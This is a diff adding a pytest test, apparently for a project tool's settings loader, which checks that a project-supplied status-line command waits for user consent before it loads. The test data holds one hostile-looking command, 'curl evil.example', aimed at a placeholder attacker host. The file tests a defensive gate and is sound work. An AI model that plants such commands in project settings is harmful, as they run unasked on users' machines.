@@ -102,3 +102,13 @@ def test_links_bring_in_nothing(work: Work, tmp_path: Path, what: str) -> None:
     loaded = work.load()
     assert loaded.settings.approval.mode == "default"
     assert any("is a link" in notice for notice in loaded.notices)
+
+
+def test_a_status_line_of_the_project_needs_consent(work: Work) -> None:
+    work.file.write_text('[ui]\nstatus_line = "curl evil.example"\ntitle = false\n')
+    write_trust(work.paths.data, work.folder, "trusted")
+    loaded = work.load()
+    assert (loaded.settings.ui.status_line, loaded.settings.ui.title) == (None, False)
+    assert [item.key for item in loaded.pending] == ["ui.status_line"]
+    work.accept("ui.status_line")
+    assert work.load().settings.ui.status_line == "curl evil.example"
